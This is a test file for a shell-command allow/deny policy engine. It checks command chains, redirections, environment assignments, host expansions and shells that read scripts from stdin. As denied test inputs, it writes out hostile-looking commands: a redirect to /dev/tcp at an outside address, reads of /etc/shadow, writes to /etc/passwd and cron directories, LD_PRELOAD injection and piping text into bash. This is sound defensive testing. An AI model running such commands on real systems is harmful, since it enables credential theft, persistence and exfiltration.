import { assert, describe, it } from "@effect/vitest"
import { type CompiledPolicy, decide, type Decision } from "../../src/policy/Policy.ts"
import { policyOf } from "./corpus.ts"

const HOST = { alias: "web-1", tags: [] }

const decideAll = (policy: CompiledPolicy, expected: Readonly<Record<string, ReadonlyArray<string>>>): void => {
  for (const [code, commands] of Object.entries(expected)) {
    for (const command of commands) {
      const decision = decide(policy, HOST, command)
      const found = decision._tag === "Allowed" ? "allowed" : decision.code
      assert.strictEqual(found, code, `${command}: ${decision._tag === "Denied" ? decision.detail : ""}`)
    }
  }
}

const rule = (commands: ReadonlyArray<string>, keys: object = {}) => ({ action: "allow", commands, ...keys })

const policyWith = (...rules: ReadonlyArray<object>): CompiledPolicy =>
  policyOf({ limits: { deny_substrings: [] }, rules })

const partsOf = (decision: Decision): ReadonlyArray<string> =>
  decision.parts.map((part) => `${part.text} ${part.allowed ? (part.rule ?? "") : (part.code ?? "")}`)

describe("a text of several commands", () => {
  const policy = policyWith(rule(["uptime", "df *", "grep *", "wc *", "ls *", "echo *", "test *", "cat *", "cat"]))

  it("is allowed when a rule allows each of them, wherever they stand", () => {
    decideAll(policy, {
      allowed: [
        "uptime; df -h",
        "df -h | grep sda | wc -l",
        "uptime && df -h || echo failed",
        "if test -f /x; then cat /x; else echo none; fi",
        "for i in 1 2; do echo $i; break; done",
        "i=0; while test $i -lt 3; do echo $i; i=$((i+1)); done",
        "case $(uptime) in *load*) df -h ;; esac",
        'echo "$(df -h | wc -l)"',
        "(uptime; { df -h; }) 2>&1 | grep x",
        "cat <<'EOF'\n$(reboot)\nEOF",
        "n=$(ls /x | wc -l); test $n -gt 3 && echo $((n * 2)) || exit 1"
      ],
      "no-rule": [
        "uptime; reboot",
        "uptime\nreboot",
        "uptime | reboot",
        "if reboot; then uptime; fi",
        "for i in $(reboot); do echo $i; done",
        "echo $(echo $(reboot))",
        "x=$(reboot); echo $x",
        "case $(reboot) in x) uptime ;; esac",
        "while test -f /x; do reboot; done",
        "! reboot",
        "cat <<E\nx\nE\nreboot",
        "true; break"
      ]
    })
  })

  it("is shown part by part, each with its decision, and the first denial decides", () => {
    const decision = decide(policy, HOST, "uptime; echo $(reboot) | wc -l; halt")
    assert.deepStrictEqual(partsOf(decision), [
      "uptime rules[0]",
      "echo $(reboot) rules[0]",
      "reboot no-rule",
      "wc -l rules[0]",
      "halt no-rule"
    ])
    assert.strictEqual(decision._tag, "Denied")
    if (decision._tag === "Allowed") return
    assert.strictEqual(decision.why, "Policy blocked command in chain: 'reboot'")
    assert.strictEqual(decision.deniedCommand, "reboot")
    assert.strictEqual(decision.normalized, "uptime; echo $(reboot) | wc -l; halt")
  })

  it("runs as its canonical text, whatever was written", () => {
    const decision = decide(policy, HOST, "uptime&&df  -h|&grep 'a b'\necho `uptime`")
    assert.strictEqual(decision._tag, "Allowed")
    if (decision._tag === "Denied") return
    assert.strictEqual(decision.command.canonical, "uptime && df -h 2>&1 | grep 'a b'; echo $(uptime)")
  })

  it("has the smallest limits of all rules that allowed a part, and names them in order", () => {
    const mixed = policyWith(
      rule(["a"], { id: "first", limits: { max_seconds: 20, max_output_bytes: 5000 } }),
      rule(["b"], { id: "second", limits: { max_seconds: 10 } })
    )
    const decision = decide(mixed, HOST, "b | a; b")
    assert.strictEqual(decision._tag, "Allowed")
    if (decision._tag === "Denied") return
    assert.strictEqual(decision.rule, "second,first")
    assert.strictEqual(decision.limits.max_seconds, 10)
    assert.strictEqual(decision.limits.max_output_bytes, 5000)
  })
})

describe("redirections", () => {
  const policy = policyWith(
    rule(["report", "date"], { redirect_write: ["/tmp/report-*"], redirect_read: ["/etc/hosts"] }),
    rule(["date"]),
    rule(["*"], { aliases: ["other"], redirect_write: ["*"] })
  )

  it("need a rule that allows the command and names the file", () => {
    decideAll(policy, {
      allowed: [
        "report >/tmp/report-1",
        "report >>/tmp/report-1 2>/dev/null",
        "report 2>&1 >/dev/null </dev/null",
        "report </etc/hosts",
        "date >/tmp/report-2",
        "{ report; date; } >/tmp/report-1",
        "(report | date) 2>/tmp/report-1",
        "for i in 1; do report; done >/tmp/report-1",
        "{ x=1; report; } >/tmp/report-1",
        "{ x=1; } >/dev/null 2>&1; report"
      ],
      "redirect-write": [
        "report >/tmp/x",
        "report >/tmp/report-1/../../etc/x",
        "report >>/etc/passwd",
        "report 2>/tmp/y",
        "report &>/tmp/y",
        "report >&/tmp/y",
        "report >/dev/null >/etc/motd",
        "report >/dev/tcp/198.51.100.7/80",
        "{ report; } >/etc/x",
        "report >x"
      ],
      "redirect-read": ["report </etc/shadow", "date </etc/hosts </etc/shadow"],
      "construct/redirection-alone": [">/tmp/report-1", "date; { x=1; } >/etc/motd", "{ x=$(date); } >/tmp/report-1"],
      "construct/redirection-target": ["report >/tmp/report-$x", "report >/tmp/report-*"]
    })
  })
})

describe("variables that are set for a command", () => {
  const policy = policyWith(rule(["psql", "env *"], { env: ["PG*", "PATH"] }), rule(["ls *"]))

  it("are harmless ones, or those that the rule names; never those that change what runs", () => {
    decideAll(policy, {
      allowed: ["LC_ALL=C TZ=UTC ls /x", "PGHOST=db PGPORT=1 psql", "env PGHOST=db ls /x", "x=1; ls $x"],
      "env-assignment": [
        "PGHOST=db ls /x",
        "PATH=/tmp psql",
        "LD_PRELOAD=/x ls /y",
        "x=1 ls /y",
        "LC_MCP_RUN=1 ls /x",
        "env LD_PRELOAD=/x ls /y",
        "PATH=/tmp; ls /x",
        "IFS=x; ls /x"
      ]
    })
  })
})

describe("words that the host expands", () => {
  const policy = policyWith(
    rule([
      "cat /var/log/*",
      "ls *",
      "systemctl status *",
      "systemctl is-active nginx",
      "sort *",
      "grep * /srv/*",
      "tail ~/logs/*"
    ]),
    { action: "deny", commands: ["systemctl stop*"] }
  )

  it("never satisfy a literal, and only a glob under a literal prefix satisfies a path", () => {
    decideAll(policy, {
      allowed: [
        "ls $x",
        'ls "$x" *',
        "cat /var/log/*.log",
        "cat /var/log/nginx/[a-z]*.log",
        'systemctl status -- "$x"',
        "sort -- *",
        "tail ~/logs/a",
        'grep "$x" /srv/a',
        "for s in nginx redis; do systemctl status $s; done"
      ],
      "no-rule": [
        "cat $x",
        'cat "/var/log/$x"',
        "cat /var/*/x",
        "cat /var/log/.*",
        "cat /var/log/../*",
        "systemctl is-active $x",
        "x=nginx; systemctl is-active $x",
        "grep $x /srv/a",
        "tail '~/logs/a'",
        "tail ~/logs/../x"
      ],
      "construct/tilde": ["tail ~root/logs/a"]
    })
  })

  it("are named in a denial that they may be the reason of", () => {
    const decision = decide(policy, HOST, 'cat "$x"')
    assert.strictEqual(
      decision._tag === "Denied" && decision.detail,
      'No rule on this host allows this use of "cat". The host expands "\\"$x\\"", which only a * covers: write it out.'
    )
  })

  it("may always be what a deny rule or a guard is about", () => {
    decideAll(policy, {
      "rule-deny": ["systemctl $x", "systemctl $(echo stop) nginx", 'systemctl "$x" nginx'],
      "unsafe-argument": ['sort "$x"', "sort *", 'systemctl status "$x"', "x=-H; systemctl status $x"],
      "dynamic-command-name": ["$x", "x=ls; $x /y", "$(echo ls) /y"]
    })
  })

  it("may become a denied text of which they show a part", () => {
    const denying = policyOf({ limits: { deny_substrings: ["/etc/shadow"] }, rules: [rule(["*"])] })
    decideAll(denying, {
      "deny-substring": ["cat /etc/shadow", "cat /etc/sha*", "cat /etc/$x", "cat /*/shadow", "cat /etc/shado?"],
      allowed: ["cat /var/log/*", 'echo "$x"', "cat /var/log/$x"]
    })
  })
})

describe("scripts inside a command", () => {
  it("are checked with the redirections around each command, also of one that stands there twice", () => {
    decideAll(policyWith(rule(["sh *", "date"]), rule(["eval *"])), {
      allowed: ["sh -c 'date; date'", "sh -c '{ date; } >/dev/null'"],
      "redirect-write": [
        "sh -c 'date; { date; } >/etc/cron.d/x'",
        "sh -c '{ date; } >/etc/cron.d/x; date'",
        "eval 'date; (date) >>/etc/cron.d/x'"
      ]
    })
  })

  it("are checked with what is known of a word where it stands", () => {
    decideAll(policyWith(rule(["timeout *", "sort *", "cat"])), {
      allowed: ["x=f; timeout 5 sort $x"],
      "unsafe-argument": ["{ x=f; timeout 5 sort $x; } | cat; timeout 5 sort $x"]
    })
  })

  it("are not taken for named because the words before them are", () => {
    decideAll(policyWith(rule(["command eval date *", "eval *", "date"])), {
      allowed: ["command eval date ';' date"],
      "no-rule": ["command eval date ';' reboot", "command eval date '; reboot'"]
    })
  })
})

describe("a shell that reads its script from its input", () => {
  it("is never allowed, since it would run any text", () => {
    decideAll(
      policyWith(
        rule(["bash*", "bash", "sh", "sh -s", "dash -", "fish", "sudo bash", "echo *", "cat", "bash -e /srv/deploy.sh"])
      ),
      {
        "wrapper-option": [
          "echo reboot | bash",
          "bash",
          "bash <<'E'\nreboot\nE",
          "echo reboot | sh -s",
          "echo reboot | dash -",
          "echo reboot | sudo bash",
          "echo reboot | fish",
          "echo reboot | bash -x",
          "echo reboot | bash /dev/stdin"
        ],
        allowed: ["bash -e /srv/deploy.sh", "bash -c 'echo x'"]
      }
    )
  })
})
